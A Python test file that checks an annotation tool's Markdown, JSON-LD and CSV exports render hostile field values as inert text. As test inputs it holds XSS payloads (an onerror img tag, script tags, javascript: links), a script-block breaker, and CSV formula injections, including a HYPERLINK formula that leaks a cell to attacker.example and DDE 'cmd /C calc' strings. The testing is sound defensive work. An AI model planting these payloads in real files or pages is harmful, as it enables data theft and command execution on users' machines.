"""Hostile values in every field of every export: shown as text, never run.

An article's metadata comes from a web page and labels, tags and notes from imported
files, so any of them may hold markup. Each test puts one hostile value in one field and
checks the rendered export: the value is there as text, and nothing it contains became a
tag, an attribute, a heading, a formula or the end of a script block.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from annotator.core.annotations.model import Annotation, Label
from annotator.core.article import Article
from annotator.core.export import FORMATS
from annotator.core.export.common import json_ld
from annotator.core.export.csv_export import COLUMNS, export_csv
from annotator.core.export.markdown_report import export_markdown, markdown_link
from annotator.core.extraction.model import Extraction, Person, Quote, Span

IMG = '"><img src=x onerror=alert(9)>'
HOSTILE = f'{IMG}\n# Injected\n\n<script>alert(1)</script> *bold* [link](javascript:alert(2))'
PLAIN_TEXT = "The mayor said the bridge is safe. Engineers disagree.\n"
WHEN = "2026-03-11T09:30:00Z"
MARKDOWN_FIELDS = (
    "title",
    "source",
    "byline",
    "label",
    "tags",
    "note",
    "quote text",
    "speaker",
    "verdict",
    "author",
    "extracted speaker",
    "person",
)


class _Tags(HTMLParser):
    """Every element and attribute of a rendered page, and its text per heading."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.headings: list[str] = []
        self.text: list[str] = []
        self._in_heading = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag in ("h1", "h2", "h3", "h4", "h5", "h6"):
            self._in_heading = True
            self.headings.append("")

    def handle_endtag(self, tag):
        if tag.startswith("h") and tag[1:].isdigit():
            self._in_heading = False

    def handle_data(self, data):
        self.text.append(data)
        if self._in_heading:
            self.headings[-1] += data


def _article(text: str = PLAIN_TEXT, **overrides) -> Article:
    overrides.setdefault("title", "Bridge")
    return Article(source=Path("/data/bridge.txt"), text=text, **overrides)


def _annotation(text: str, piece: str, **fields) -> Annotation:
    start = text.index(piece)
    fields.setdefault("created", WHEN)
    fields.setdefault("modified", WHEN)
    fields.setdefault("label", "Claim")
    label = fields.pop("label")
    return Annotation.create(text, start, start + len(piece), label, id="00000000-0000-4000-8000-000000000001", **fields)


def hostile_case(field: str) -> tuple[Article, list[Annotation], list[Label], Extraction | None]:
    """An article and its annotations with ``HOSTILE`` in ``field`` only."""
    text = PLAIN_TEXT
    labels = [Label("Claim", "#1f77b4", "1")]
    extraction = None
    annotation_fields: dict = {"verdict": "False"}
    article_fields: dict = {}
    piece = "the bridge is safe"
    if field == "title":
        article_fields["title"] = HOSTILE
    elif field == "source":
        article_fields["metadata"] = {"url": "https://news.example/a" + HOSTILE}
    elif field == "byline":
        article_fields["metadata"] = {"author": HOSTILE, "site": HOSTILE, "date": HOSTILE}
    elif field == "label":
        annotation_fields["label"] = HOSTILE
        labels.append(Label(HOSTILE, "#ff7f0e", "2"))
    elif field == "tags":
        annotation_fields["tags"] = (HOSTILE, "`" + HOSTILE)
    elif field == "note":
        annotation_fields["note"] = HOSTILE
    elif field == "quote text":
        text = f"Before. {HOSTILE} After.\n"
        piece = HOSTILE
    elif field == "speaker":
        annotation_fields["speaker"] = HOSTILE
    elif field == "verdict":
        annotation_fields["verdict"] = HOSTILE
    elif field == "author":
        annotation_fields["author"] = HOSTILE
    elif field in ("extracted speaker", "person"):
        start = text.index(piece)
        extraction = Extraction(
            people=[Person(id="p1", name=HOSTILE, role=HOSTILE, mentions=[Span(4, 9)], quote_count=1)],
            quotes=[
                Quote(
                    id="q1",
                    start=start,
                    end=start + len(piece),
                    text=piece,
                    kind="indirect",
                    speaker=HOSTILE,
                    speaker_id="p1",
                )
            ],
        )
    else:
        raise AssertionError(field)
    article = _article(text, **article_fields)
    return article, [_annotation(text, piece, **annotation_fields)], labels, extraction


def rendered_markdown(field: str) -> tuple[str, _Tags]:
    report = export_markdown(*hostile_case(field))
    page = _Tags()
    page.feed(MarkdownIt("commonmark").render(report))  # raw HTML allowed, as GitHub-like renderers do
    return report, page


@pytest.mark.parametrize("field", MARKDOWN_FIELDS)
def test_markdown_shows_a_hostile_value_in_each_field_as_text(field):
    report, page = rendered_markdown(field)
    tags = {tag for tag, _ in page.elements}
    assert not tags & {"img", "script"}, (field, report)
    assert not [attrs for _, attrs in page.elements if any(name.startswith("on") for name in attrs)]
    hrefs = [attrs.get("href") or "" for tag, attrs in page.elements if tag == "a"]
    assert all(href.startswith(("https://", "file:")) for href in hrefs), hrefs
    assert not [h for h in page.headings if h.strip().startswith("Injected")], page.headings
    assert sum(1 for tag, _ in page.elements if tag == "h1") == 1
    if field == "label":  # a label's line breaks never split its heading
        assert [h for h in page.headings if "Injected" in h and "onerror" in h and "alert(1)" in h]
    shown = "".join(page.text)
    assert "onerror=alert(9)" in shown and "*bold*" in shown  # shown as typed, not dropped


def test_only_web_and_file_addresses_become_links_and_they_are_percent_encoded():
    assert markdown_link('https://x.example/a"><img src=x>') == "<https://x.example/a%22%3E%3Cimg%20src=x%3E>"
    assert markdown_link("file:///data/caf%C3%A9.txt") == "<file:///data/caf%C3%A9.txt>"
    assert markdown_link("https://x.example/q?a=1&b=%20#top") == "<https://x.example/q?a=1&b=%20#top>"
    assert markdown_link("javascript:alert(1)") == "javascript:alert(1)"
    assert not markdown_link("data:text/html,<b>x</b>").startswith("<")
    assert "<" not in markdown_link("data:text/html,<b>x</b>").replace("\\<", "")


# -- JSON-LD (ClaimReview, W3C) ------------------------------------------------------------

SCRIPT_BREAK = "</script><script>alert(1)</script><!-- & -->"
JSON_LD_FIELDS = ("title", "source", "byline", "label", "tags", "note", "quote text", "speaker", "author")
# Fields a format does not carry; "source" is never a web address here, so the file's URI is used.
NOT_CARRIED = {"claimreview": {"source", "label", "tags"}, "w3c": {"source", "byline"}}


def _script_break_case(field: str):
    article, annotations, labels, extraction = hostile_case(field)
    swap = lambda value: value.replace(HOSTILE, SCRIPT_BREAK) if isinstance(value, str) else value  # noqa: E731
    article = dataclasses.replace(
        article,
        text=swap(article.text),
        title=swap(article.title),
        metadata={key: swap(value) for key, value in article.metadata.items()},
    )
    annotation = annotations[0]
    piece = swap(annotation.selector.exact)
    start = article.text.index(piece)
    annotation = Annotation.create(
        article.text,
        start,
        start + len(piece),
        swap(annotation.label),
        id=annotation.id,
        tags=tuple(swap(tag) for tag in annotation.tags),
        note=swap(annotation.note),
        verdict=annotation.verdict,
        speaker=swap(annotation.speaker),
        author=swap(annotation.author),
        created=WHEN,
        modified=WHEN,
    )
    return article, [annotation], labels, extraction


class _ScriptBlock(HTMLParser):
    """What a browser hands to the JSON-LD reader: the text of the first script element."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self._inside = False

    def handle_starttag(self, tag, attrs):
        self._inside = tag == "script"
        if self._inside:
            self.scripts.append("")

    def handle_endtag(self, tag):
        self._inside = False

    def handle_data(self, data):
        if self._inside:
            self.scripts[-1] += data


@pytest.mark.parametrize("format_name", ["claimreview", "w3c"])
@pytest.mark.parametrize("field", JSON_LD_FIELDS)
def test_json_ld_keeps_a_script_closing_value_in_each_field_inside_its_script_block(format_name, field):
    case = _script_break_case(field)
    produced = FORMATS[format_name].render(*case)
    assert not set("<>&") & set(produced)
    page = _ScriptBlock()
    page.feed(f'<script type="application/ld+json">{produced}</script><p>after</p>')
    assert len(page.scripts) == 1 and json.loads(page.scripts[0]) == json.loads(produced)
    if field not in NOT_CARRIED[format_name]:
        assert SCRIPT_BREAK in json.dumps(json.loads(produced), ensure_ascii=False)


def test_json_ld_text_parses_to_the_same_values_as_plain_json():
    data = {"a<b": ["</script>", "&amp;", "x > y", "\u2028", "é😀", 1, None, True]}
    produced = json_ld(data)
    assert json.loads(produced) == data
    assert "\\u003c/script\\u003e" in produced and "\\u0026amp;" in produced


# -- CSV -----------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


class _FormulaOffset(int):
    """A valid offset whose text is a formula: reaches the start/end cells like any offset."""

    def __str__(self) -> str:
        return f"-{int(self)}+cmd|' /C calc'!A0"


def _csv_case(column: str) -> tuple[Article, Annotation]:
    article = _article()
    annotation = _annotation(PLAIN_TEXT, "the bridge is safe", verdict="False")
    if column in ("start", "end"):
        changes = {column: _FormulaOffset(getattr(annotation, column))}
    elif column == "text":
        article = _article(f"Before. {FORMULA} After.\n")
        annotation = _annotation(article.text, FORMULA)
        changes = {}
    elif column == "tags":
        changes = {"tags": (FORMULA, "fine")}
    elif column == "speaker":
        changes = {"speaker": "@SUM(1+1)*cmd|' /C calc'!A0"}
    else:  # id, label, verdict, note, created, modified, status: text fields of the sidecar
        changes = {column: FORMULA}
    return article, dataclasses.replace(annotation, **changes)


CSV_TRIED = ("id", "label", "tags", "verdict", "text", "note", "start", "end", "speaker", "created", "modified", "status")


@pytest.mark.parametrize("column", CSV_TRIED)
def test_csv_guards_a_formula_in_each_column(column):
    assert column in COLUMNS
    article, annotation = _csv_case(column)
    rows = list(csv.DictReader(io.StringIO(export_csv(article, [annotation], [], bom=False), newline="")))
    assert len(rows) == 1
    cell = rows[0][column]
    assert cell.startswith("'") and cell[1] in "=+-@", (column, cell)
    unguarded = [name for name, value in rows[0].items() if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert unguarded == []


def test_every_column_of_the_csv_export_is_tried_with_a_formula():
    assert sorted(CSV_TRIED) == sorted(COLUMNS)
